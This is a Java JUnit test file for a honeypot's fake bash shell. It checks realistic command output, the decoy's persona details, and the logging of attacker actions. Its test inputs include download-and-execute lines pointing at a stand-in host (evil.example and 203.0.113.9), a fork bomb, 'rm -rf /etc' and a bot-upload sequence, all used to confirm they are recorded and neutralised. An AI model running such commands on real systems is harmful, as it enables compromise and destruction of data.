package decnet.decoys.shell;

import static org.assertj.core.api.Assertions.assertThat;

import decnet.core.Peer;
import decnet.decoys.DecoyContext;
import decnet.decoys.Fixtures;
import decnet.decoys.Seen;
import decnet.topology.Account;
import decnet.topology.Decky;
import decnet.topology.Persona;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.SplittableRandom;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

class ShellSessionTest {
    private static final Decky DECKY =
            Fixtures.decky("[srv]\narchetype = linux-server\nservices = redis\ndistro = debian12");
    private static final Persona PERSONA = DECKY.persona();
    private static final Account ROOT = PERSONA.accounts().getFirst();

    private final DecoyContext context = Fixtures.context(PERSONA, Map.of());
    private final List<Seen> events = new ArrayList<>();

    private ShellSession session(Account account, boolean interactive) {
        return new ShellSession(context, account, Peer.of("10.3.2.1", 50000), interactive);
    }

    private String exec(String line) {
        ShellSession session = session(ROOT, false);
        ShellOutput output = session.exec(line);
        events.addAll(output.events());
        events.addAll(session.close());
        return text(output);
    }

    private static String text(ShellOutput output) {
        return new String(output.bytes().bytes(), StandardCharsets.ISO_8859_1);
    }

    private static byte[] bytes(String text) {
        return text.getBytes(StandardCharsets.ISO_8859_1);
    }

    @ParameterizedTest
    @CsvSource(delimiter = '~', quoteCharacter = '`', textBlock = """
        echo hello world~hello world
        echo "a  b" 'c $HOME'~a  b c $HOME
        echo $((2+3*4))~14
        echo {1..3} a{b,c}~1 2 3 ab ac
        echo $(echo x; echo y) `echo z`~x y z
        X=5; echo "v=$X"~v=5
        false || echo no~no
        true && echo yes~yes
        echo one > /tmp/f; echo two >> /tmp/f; cat /tmp/f | wc -l~2
        cat <<< hi~hi
        for i in 1 2 3; do echo -n $i; done; echo~123
        if [ -f /etc/passwd ]; then echo there; else echo gone; fi~there
        [[ a == a ]] && echo same~same
        printf '%s-%s\\n' a b~a-b
        echo aGkK | base64 -d~hi
        echo a:b:c | cut -d: -f2~b
        echo hello | tr a-z A-Z~HELLO
        seq 3 | tail -n 1~3
        printf 'b\\na\\n' | sort | head -1~a
        whoami~root
        id~uid=0(root) gid=0(root) groups=0(root)
        uname -r~6.1.0-21-amd64
        date +%s~1772600767
        cd /tmp && pwd~/tmp
        type cd~cd is a shell builtin
        which ls~/usr/bin/ls
        nosuch 2>/dev/null; echo $?~127
        grep -c root: /etc/passwd~1
        awk -F: '/^root/{print $1,$3}' /etc/passwd~root 0
        echo abc | sed s/b/x/~axc
        cat /proc/sys/x 2>&1~cat: /proc/sys/x: No such file or directory
        expr 2 + 3~5
        basename /a/b.c .c~b
        ls -d /etc/pass*~/etc/passwd
        echo "$(uname) $(nproc)" | cut -d' ' -f1~Linux
        """)
    void anEverydayCommandAnswersAsBashDoes(String line, String answer) {
        assertThat(exec(line).strip()).isEqualTo(answer);
    }

    @Test
    void whatItSaysOfItselfIsWhoItIs() {
        assertThat(exec("hostname; cat /etc/hostname; uname -n").lines()).containsOnly(PERSONA.hostname());
        assertThat(exec("cat /etc/os-release")).contains("PRETTY_NAME=\"Debian GNU/Linux 12 (bookworm)\"");
        assertThat(exec("cat /proc/version")).contains(PERSONA.os().kernelRelease());
        assertThat(exec("ip a; ifconfig").split(PERSONA.mac(), -1)).hasSize(3);
        assertThat(exec("cat /etc/passwd"))
                .contains(
                        "root:x:0:0:root:/root:/bin/bash",
                        PERSONA.accounts().getLast().name());
        assertThat(exec("ps aux").lines().count()).isGreaterThan(20);
        assertThat(exec("grep MemTotal /proc/meminfo"))
                .contains(Long.toString(PERSONA.hardware().memoryKib()));
    }

    @Test
    void anUnknownCommandIsUnknown() {
        ShellSession session = session(ROOT, false);

        ShellOutput output = session.exec("frobnicate -x");

        assertThat(text(output)).isEqualTo("bash: line 1: frobnicate: command not found\n");
        assertThat(output.ended()).isTrue();
        assertThat(output.exitStatus()).isEqualTo(127);
    }

    @Test
    void aDownloadIsRecordedAndFails() {
        assertThat(exec("cd /tmp; wget http://203.0.113.9/x.sh; curl -O https://evil.example/y; chmod +x x.sh; ./x.sh"))
                .contains(
                        "failed: Connection timed out.",
                        "curl: (6) Could not resolve host: evil.example",
                        "chmod: cannot access 'x.sh'");

        assertThat(events)
                .filteredOn(seen -> seen.type().equals("download_attempt"))
                .extracting(
                        seen -> seen.fields().get("tool") + " " + seen.fields().get("url"))
                .containsExactly("wget http://203.0.113.9/x.sh", "curl https://evil.example/y");
    }

    @Test
    void theAddressOfADownloadIsFoundAmongOptionsInAnyOrder() {
        exec("wget http://203.0.113.9/a -O /tmp/.a; wget -q -O /tmp/.b -t 3 203.0.113.9/b; wget -qO-"
                + " http://203.0.113.9/c; wget --tries 2 --output-document=/tmp/x.y http://203.0.113.9/d"
                + " http://203.0.113.9/e; curl -o /tmp/f.sh 203.0.113.9/f; curl http://203.0.113.9/g -H 'Referer:"
                + " http://a.b/' -o /tmp/g");

        assertThat(events)
                .filteredOn(seen -> seen.type().equals("download_attempt"))
                .extracting(seen -> seen.fields().get("url"))
                .containsExactly(
                        "http://203.0.113.9/a",
                        "http://203.0.113.9/b",
                        "http://203.0.113.9/c",
                        "http://203.0.113.9/d",
                        "http://203.0.113.9/e",
                        "203.0.113.9/f",
                        "http://203.0.113.9/g");
    }

    @Test
    void whatOneSessionWritesTheNextOneFinds() {
        exec("echo kept > /root/note");

        assertThat(exec("cat /root/note")).isEqualTo("kept\n");
        assertThat(exec("rm -rf /etc; ls -d /etc")).contains("cannot access");
        assertThat(exec("ls -d /etc")).isEqualTo("/etc\n");
    }

    @Test
    void standardInputOfACommandIsAnUpload() {
        ShellSession session = session(ROOT, false);

        ShellOutput first = session.exec("cat > /tmp/bot && chmod 777 /tmp/bot && wc -c /tmp/bot");
        assertThat(first.ended()).isFalse();
        session.feed(bytes("#!/bin/sh\n\u00ff"));
        ShellOutput last = session.endOfInput();

        assertThat(text(last)).isEqualTo("11 /tmp/bot\n");
        assertThat(last.ended()).isTrue();
        assertThat(last.events()).anySatisfy(seen -> {
            assertThat(seen.type()).isEqualTo("file_upload");
            assertThat(seen.content().orElseThrow().bytes()).isEqualTo(bytes("#!/bin/sh\n\u00ff"));
        });
    }

    @Test
    void atATerminalLinesAreEchoedEditedAndRecorded() {
        ShellSession session = session(ROOT, true);
        String prompt = "root@" + PERSONA.hostname() + ":~# ";
        assertThat(text(session.start(80, 24)))
                .endsWith(prompt)
                .contains("Debian GNU/Linux comes with ABSOLUTELY NO WARRANTY");

        ShellOutput output = session.feed(bytes("echp\u007fo hi\r"));
        assertThat(text(output)).isEqualTo("echp\b \bo hi\r\nhi\r\n" + prompt);
        assertThat(output.events()).singleElement().satisfies(seen -> assertThat(seen.fields())
                .containsEntry("command", "echo hi")
                .containsEntry("user", "root")
                .containsEntry("mode", "shell")
                .containsEntry("cwd", "/root"));
        assertThat(text(session.feed(bytes("\u001b[A\r")))).endsWith("hi\r\n" + prompt);
        ShellOutput bye = session.feed(bytes("exit\r"));

        assertThat(bye.ended()).isTrue();
        List<Seen> end = session.close();
        assertThat(end).singleElement().satisfies(seen -> {
            assertThat(seen.type()).isEqualTo("session_recorded");
            String cast = new String(seen.content().orElseThrow().bytes(), StandardCharsets.UTF_8);
            assertThat(cast.lines().findFirst().orElseThrow()).contains("\"version\":2", "\"width\":80");
            assertThat(cast).contains("\"i\"", "\"o\"");
            assertThat(cast.lines().skip(1)).allMatch(line -> line.startsWith("[") && line.endsWith("]"));
        });
    }

    @Test
    void sudoAsksForThePasswordAndTellsIt() {
        Account user = PERSONA.accounts().stream()
                .filter(one -> one.sudo() && one.uid() != 0)
                .findFirst()
                .orElseThrow();
        ShellSession session = session(user, true);
        session.start(80, 24);

        assertThat(text(session.feed(bytes("sudo id\r")))).endsWith("[sudo] password for " + user.name() + ": ");
        ShellOutput output = session.feed(bytes(user.password().orElseThrow().text() + "\r"));

        assertThat(text(output))
                .contains("uid=0(root)")
                .doesNotContain(user.password().orElseThrow().text() + "\r");
        assertThat(output.events()).anySatisfy(seen -> assertThat(seen.fields())
                .containsEntry("method", "sudo")
                .containsEntry("outcome", "accepted"));
    }

    @Test
    void aHereDocumentIsReadToItsEnd() {
        ShellSession session = session(ROOT, true);
        session.start(80, 24);

        String said = text(session.feed(bytes("cat > /tmp/h <<EOF\rone\rtwo\rEOF\rcat /tmp/h\r")));

        assertThat(said).endsWith("one\r\ntwo\r\nroot@" + PERSONA.hostname() + ":~# ");
    }

    @Test
    void aLoopWithoutEndEnds() {
        assertThat(exec("while true; do echo x; done").length()).isLessThan(1 << 20);
        assertThat(exec(":(){ :|:& };:")).isNotNull();
        assertThat(exec("echo $(echo $(echo $(echo $(echo $(echo $(echo deep))))))"))
                .isNotNull();
    }

    @ParameterizedTest
    @ValueSource(longs = {1, 2, 3, 4, 5, 6})
    void randomLinesBreakNothing(long seed) {
        SplittableRandom random = new SplittableRandom(seed);
        List<String> words =
                new ArrayList<>(Commands.map().keySet().stream().sorted().toList());
        words.addAll(List.of(
                "$(",
                ")",
                "`",
                "|",
                ";",
                "&&",
                "||",
                ">",
                ">>",
                "<",
                "<<",
                "\"",
                "'",
                "{1..9}",
                "*",
                "/etc/*",
                "-la",
                "$X",
                "${",
                "}",
                "((",
                "$((1/0))",
                "if",
                "then",
                "fi",
                "for",
                "do",
                "done",
                "while",
                "-n",
                "/",
                "..",
                "\\",
                "9999999999",
                "-c",
                "2>&1",
                "-",
                "%d",
                "[",
                "]",
                "a=b",
                "http://x/"));
        for (int i = 0; i < 400; i++) {
            StringBuilder line = new StringBuilder();
            for (int j = random.nextInt(1, 9); j > 0; j--) {
                line.append(words.get(random.nextInt(words.size()))).append(random.nextInt(4) == 0 ? "" : " ");
            }
            ShellSession session = session(ROOT, random.nextBoolean());
            session.start(80, 24);
            ShellOutput output = session.feed(bytes(line + "\r\u0004" + (char) random.nextInt(256)));
            assertThat(output.bytes().length()).isLessThan(2 << 20);
            session(ROOT, false).exec(line.toString());
            session.close();
        }
    }
}
